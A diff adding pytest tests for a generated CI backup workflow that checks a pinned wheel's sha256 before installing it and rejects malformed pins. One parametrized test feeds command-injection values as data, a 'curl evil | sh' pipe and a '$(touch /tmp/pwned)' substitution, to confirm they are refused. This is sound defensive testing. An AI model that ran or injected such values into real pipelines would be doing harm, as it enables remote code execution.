@@ -67,3 +67,80 @@ def test_release_workflow_builds_installs_and_smoke_tests_on_each_os() -> None:
     publish = workflow["jobs"]["publish"]
     assert publish["if"] == "startsWith(github.ref, 'refs/tags/v')"
     assert "sha256sum" in "\n".join(str(s.get("run", "")) for s in publish["steps"])
+
+
+def backup_workflow() -> str:
+    from services import workspace as ws
+    from services.backup.schedule import workflow
+
+    work = ws.Workspace(name="Lint", profile=ws.Profile.ADMIN)
+    env = ws.seed_environment("production", ws.EnvironmentKind.PRODUCTION)
+    work.environments["production"] = env
+    return workflow(env, work)
+
+
+SHA = "0123456789abcdef" * 4
+
+
+def test_generated_backup_workflow_installs_the_pinned_wheel_and_passes_actionlint(
+        actionlint: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    import yaml
+
+    monkeypatch.setenv("REALTOR_OPS_WHEEL_SHA256", SHA.upper())
+    monkeypatch.setenv("REALTOR_OPS_RELEASE_VERSION", "1.4.0")
+    text = backup_workflow()
+    (tmp_path / "backup-production.yml").write_text(text)
+    assert lint(actionlint, tmp_path / "backup-production.yml") == []
+    step = yaml.safe_load(text)["jobs"]["backup"]["steps"][1]
+    assert step["env"]["WHEEL_SHA256"] == SHA
+    assert step["env"]["WHEEL_URL"].endswith("/releases/download/v1.4.0/realtor_ops_console-1.4.0-py3-none-any.whl")
+    assert "sha256sum --check --strict" in step["run"]
+    # the checksum is checked before pip sees the file, and pip installs that file, not a name from an index
+    assert step["run"].index("sha256sum") < step["run"].index("pip install")
+    assert "pip install realtor-ops-console" not in text and "vars." not in text
+
+
+def test_without_a_pin_the_generated_install_step_fails_saying_why(actionlint: Path, tmp_path: Path,
+                                                                    monkeypatch: pytest.MonkeyPatch) -> None:
+    import yaml
+
+    monkeypatch.delenv("REALTOR_OPS_WHEEL_SHA256", raising=False)
+    text = backup_workflow()
+    (tmp_path / "backup-production.yml").write_text(text)
+    assert lint(actionlint, tmp_path / "backup-production.yml") == []
+    run = yaml.safe_load(text)["jobs"]["backup"]["steps"][1]["run"]
+    assert "::error::" in run and "exit 1" in run and "pip install" not in text
+
+
+@pytest.mark.parametrize(("sha", "version", "words"), [
+    ("abc", "1.0.0", "64 hexadecimal characters"),
+    (SHA[:-1] + "g", "1.0.0", "64 hexadecimal characters"),
+    (SHA, "1.0.0; curl evil | sh", "is not a release version"),
+    (SHA, "1.0$(touch /tmp/pwned)", "is not a release version"),
+])
+def test_a_bad_pin_is_refused_with_a_reason(monkeypatch: pytest.MonkeyPatch, sha: str, version: str,
+                                            words: str) -> None:
+    from services.release_pin import pinned_wheel
+
+    monkeypatch.setenv("REALTOR_OPS_WHEEL_SHA256", sha)
+    monkeypatch.setenv("REALTOR_OPS_RELEASE_VERSION", version)
+    pin, reason = pinned_wheel()
+    assert pin is None and words in reason
+    assert sha not in reason and version not in reason  # described, never echoed into a workflow
+
+
+def test_an_installed_release_pins_itself_from_its_bundle(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    import sys
+
+    from services.release_pin import pinned_wheel
+
+    monkeypatch.delenv("REALTOR_OPS_WHEEL_SHA256", raising=False)
+    monkeypatch.delenv("REALTOR_OPS_RELEASE_VERSION", raising=False)
+    (tmp_path / "RELEASE.json").write_text(json.dumps({"version": "2.0.1", "wheel_sha256": SHA}))
+    monkeypatch.setattr(sys, "frozen", True, raising=False)
+    monkeypatch.setattr(sys, "_MEIPASS", str(tmp_path), raising=False)
+    pin, reason = pinned_wheel()
+    assert pin is not None and (pin.version, pin.sha256) == ("2.0.1", SHA) and reason == ""
+    (tmp_path / "RELEASE.json").write_text("{not json")
+    pin, reason = pinned_wheel()
+    assert pin is None and "not a published release" in reason
